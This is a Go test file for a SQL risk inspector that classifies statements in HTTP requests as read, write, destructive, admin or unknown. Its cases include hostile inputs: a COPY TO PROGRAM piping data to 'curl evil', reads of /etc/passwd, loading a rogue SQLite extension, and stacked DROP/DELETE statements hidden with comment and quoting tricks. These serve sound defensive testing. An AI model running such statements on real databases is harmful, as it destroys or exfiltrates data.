package inspect

import (
	"slices"
	"testing"

	"github.com/custos-dev/custos/filters/request"
)

func sqlReq(dialect, from, method, target, body string) *request.Request {
	r := req("sql-http", "http://db.internal", method, target, body)
	r.Connection.Dialect, r.Connection.StatementFrom = dialect, from
	return r
}

func jsonQuery(s string) string { b, _ := jsonMarshal(map[string]string{"query": s}); return string(b) }

func TestSQLStatements(t *testing.T) {
	for _, c := range []struct {
		dialect, sql string
		risk         Risk
		kinds        []string
	}{
		{"postgres", "SELECT id, name FROM customers WHERE id = 1", RiskRead, []string{"select"}},
		{"sqlite", "SELECT id, name FROM customers WHERE id = 1", RiskRead, []string{"select"}},
		{"postgres", "DELETE FROM customers", RiskDestructive, []string{"delete"}},
		{"sqlite", "DELETE FROM customers", RiskDestructive, []string{"delete"}},
		{"postgres", "DELETE FROM customers WHERE id = 4", RiskWrite, []string{"delete"}},
		{"sqlite", "DELETE FROM customers WHERE id = 4", RiskWrite, []string{"delete"}},
		{"postgres", "DELETE FROM customers WHERE 1=1", RiskDestructive, []string{"delete"}},
		{"sqlite", "DELETE FROM customers WHERE 1", RiskDestructive, []string{"delete"}},
		{"postgres", "UPDATE customers SET name = 'x'", RiskDestructive, []string{"update"}},
		{"sqlite", "UPDATE customers SET name = 'x'", RiskDestructive, []string{"update"}},
		{"sqlite", "UPDATE customers SET name = 'x' WHERE id = 2", RiskWrite, []string{"update"}},
		{"postgres", "INSERT INTO customers (id) VALUES (1)", RiskWrite, []string{"insert"}},
		{"sqlite", "INSERT INTO customers (id) VALUES (1)", RiskWrite, []string{"insert"}},
		{"postgres", "SELECT 1; DROP TABLE customers", RiskDestructive, []string{"select", "drop"}},
		{"sqlite", "SELECT 1; DROP TABLE customers", RiskDestructive, []string{"select", "drop"}},
		{"sqlite", "SELECT 1;; DELETE FROM customers", RiskDestructive, []string{"select", "delete"}},
		{"postgres", "TRUNCATE customers", RiskDestructive, []string{"truncate"}},
		{"postgres", "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d", RiskDestructive, []string{"select"}},
		{"sqlite", "WITH d AS (SELECT id FROM customers) DELETE FROM customers WHERE id IN (SELECT id FROM d)", RiskWrite, []string{"delete"}},
		{"postgres", "DO $$BEGIN EXECUTE 'DROP TABLE customers'; END$$", RiskAdmin, []string{"do"}},
		{"postgres", "EXECUTE p(1)", RiskAdmin, []string{"execute"}},
		{"postgres", "COPY customers TO PROGRAM 'curl evil'", RiskAdmin, []string{"copy"}},
		{"postgres", "COPY customers TO STDOUT", RiskRead, []string{"copy"}},
		{"postgres", "SELECT pg_terminate_backend(123)", RiskAdmin, []string{"select"}},
		{"postgres", "SELECT PG_CATALOG.PG_TERMINATE_BACKEND(1)", RiskAdmin, []string{"select"}},
		{"postgres", "SELECT lo_import('/etc/passwd')", RiskAdmin, []string{"select"}},
		{"postgres", "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", RiskAdmin, []string{"select"}},
		{"postgres", "SELECT query_to_xml('DELETE FROM customers', true, true, '')", RiskAdmin, []string{"select"}},
		{"postgres", "GRANT ALL ON customers TO agent", RiskAdmin, []string{"grant"}},
		{"postgres", "ALTER TABLE customers ADD COLUMN x int", RiskAdmin, []string{"alter"}},
		{"postgres", "SET ROLE postgres", RiskAdmin, []string{"set"}},
		{"postgres", "SELECT * INTO copy FROM customers", RiskAdmin, []string{"select"}},
		{"sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", RiskAdmin, []string{"attach"}},
		{"sqlite", "SELECT load_extension('/tmp/evil.so')", RiskAdmin, []string{"select"}},
		{"sqlite", "PRAGMA writable_schema = 1", RiskAdmin, []string{"pragma"}},
		{"sqlite", "PRAGMA table_info(customers)", RiskAdmin, []string{"pragma"}},
		{"sqlite", "VACUUM INTO '/tmp/copy.db'", RiskAdmin, []string{"vacuum"}},
		{"sqlite", "CREATE TRIGGER t AFTER INSERT ON customers BEGIN DELETE FROM customers; END", RiskAdmin, []string{"create"}},
		{"sqlite", "REPLACE INTO customers (id) VALUES (1)", RiskWrite, []string{"replace"}},
		// Comment tricks: each dialect reads comments as its server does.
		{"postgres", "SELECT 1 /* /* */ ; DELETE FROM customers; /* */ */", RiskRead, []string{"select"}},
		{"sqlite", "SELECT 1 /* /* */ ; DELETE FROM customers; /* */", RiskDestructive, []string{"select", "delete"}},
		{"postgres", "SELECT 1 -- ; DELETE FROM customers\n; DELETE FROM customers", RiskDestructive, []string{"select", "delete"}},
		{"sqlite", "/* x */ DeLeTe /**/ FROM customers", RiskDestructive, []string{"delete"}},
		{"postgres", "SELECT $x$; DELETE FROM customers; $x$", RiskRead, []string{"select"}},
		{"postgres", "SELECT 'a'';DELETE FROM customers;--'", RiskRead, []string{"select"}},
		{"sqlite", "SELECT 'a'';DELETE FROM customers;--'", RiskRead, []string{"select"}},
		{"sqlite", "SELECT \"where\" FROM customers; DELETE FROM customers", RiskDestructive, []string{"select", "delete"}},
	} {
		r := sqlReq(c.dialect, "json:/query", "POST", "/query", jsonQuery(c.sql))
		a := inspectOK(t, SQL{}, r)
		var kinds []string
		if st, ok := a.Details["statements"].([]any); ok {
			for _, s := range st {
				kinds = append(kinds, s.(map[string]any)["kind"].(string))
			}
		}
		if a.Kind != KindSQL || a.Risk != c.risk || !slices.Equal(kinds, c.kinds) {
			t.Errorf("%s %q: %s %v %q, want %s %v", c.dialect, c.sql, a.Risk, kinds, a.Summary, c.risk, c.kinds)
		}
	}
}

func TestSQLUnknown(t *testing.T) {
	for _, c := range []struct{ dialect, from, method, target, body string }{
		{"postgres", "json:/query", "POST", "/q", `{"query":"SELEC 1"}`},
		{"sqlite", "json:/query", "POST", "/q", `{"query":"SELEC 1"}`},
		{"postgres", "json:/query", "POST", "/q", `{"query":"SELECT 1 /* /* */"}`}, // unterminated nested comment
		{"postgres", "json:/query", "POST", "/q", `{"query":"SELECT 1","query":"DELETE FROM customers"}`},
		{"postgres", "json:/query", "POST", "/q", `{"Query":"DELETE FROM customers"}`},
		{"postgres", "json:/query", "POST", "/q", `{"query":"SELECT 1"} {"query":"DELETE FROM x"}`},
		{"postgres", "json:/query", "POST", "/q", `{"query":"SELECT '\ud800'"}`},
		{"postgres", "json:/query", "POST", "/q", `{"query":["DELETE FROM x"]}`},
		{"postgres", "json:/query", "POST", "/q", `{"query":""}`},
		{"postgres", "query:q", "GET", "/q?q=SELECT+1&q=DELETE+FROM+x", ""},
		{"postgres", "query:q", "POST", "/q?q=SELECT+1", " ; DELETE FROM x"},
		{"postgres", "form:q", "POST", "/q?q=SELECT+1", "q=SELECT+2"},
		{"postgres", "form:q", "POST", "/q", "q=SELECT+1&q=DELETE+FROM+x"},
		{"postgres", "body", "POST", "/q", "SELECT \xff"},
		{"sqlite", "body", "POST", "/q", "SELECT nosuchfunction(1)"},
		{"postgres", "json:/query", "POST", "/q", ""},
	} {
		r := sqlReq(c.dialect, c.from, c.method, c.target, c.body)
		if a := inspectOK(t, SQL{}, r); a.Risk != RiskUnknown {
			t.Errorf("%s %s %q %q: %s %q, want unknown", c.dialect, c.from, c.target, c.body, a.Risk, a.Summary)
		}
	}
}

func TestSQLStatementFrom(t *testing.T) {
	for _, c := range []struct{ from, method, target, body string }{
		{"json:/statement", "POST", "/q", `{"statement":"DELETE FROM customers"}`},
		{"json:/a~1b/0", "POST", "/q", `{"a/b":["DELETE FROM customers"]}`},
		{"query:query", "GET", "/q?query=DELETE%20FROM%20customers", ""},
		{"form:sql", "POST", "/q", "sql=DELETE+FROM+customers"},
		{"body", "POST", "/q", "DELETE FROM customers"},
	} {
		a := inspectOK(t, SQL{}, sqlReq("postgres", c.from, c.method, c.target, c.body))
		if a.Risk != RiskDestructive {
			t.Errorf("%s: %s %q", c.from, a.Risk, a.Summary)
		}
	}
}

func TestSQLDetails(t *testing.T) {
	a := inspectOK(t, SQL{}, sqlReq("postgres", "body", "POST", "/q", "SELECT substr(c.card, 1, 6), name FROM public.customers c WHERE c.id = 1"))
	st := a.Details["statements"].([]any)[0].(map[string]any)
	if !slices.Equal(st["tables"].([]string), []string{"public.customers"}) || !slices.Equal(st["columns"].([]string), []string{"c.card", "name", "c.id"}) {
		t.Errorf("%v", st)
	}
	a = inspectOK(t, SQL{}, sqlReq("sqlite", "body", "POST", "/q", "SELECT substr(c.card, 1, 6), name FROM customers c WHERE c.id = 1"))
	st = a.Details["statements"].([]any)[0].(map[string]any)
	if !slices.Equal(st["tables"].([]string), []string{"customers"}) || !slices.Contains(st["columns"].([]string), "card") {
		t.Errorf("%v", st)
	}
	a = inspectOK(t, SQL{}, sqlReq("postgres", "body", "POST", "/q", "ALTER ROLE agent PASSWORD 'hunter2'"))
	if want := "hunter2"; contains(a.Summary, want) {
		t.Errorf("summary shows the password: %q", a.Summary)
	}
}

// TestSQLiteConcurrent inspects from many goroutines at once: each
// inspection has its own database and authorizer.
func TestSQLiteConcurrent(t *testing.T) {
	done := make(chan Action)
	for i := range 16 {
		go func() {
			s := "SELECT name FROM customers WHERE id = 1"
			if i%2 == 1 {
				s = "DELETE FROM orders"
			}
			a, _ := SQL{}.Inspect(t.Context(), sqlReq("sqlite", "body", "POST", "/q", s))
			done <- a
		}()
	}
	counts := map[Risk]int{}
	for range 16 {
		counts[(<-done).Risk]++
	}
	if counts[RiskRead] != 8 || counts[RiskDestructive] != 8 {
		t.Errorf("%v", counts)
	}
}
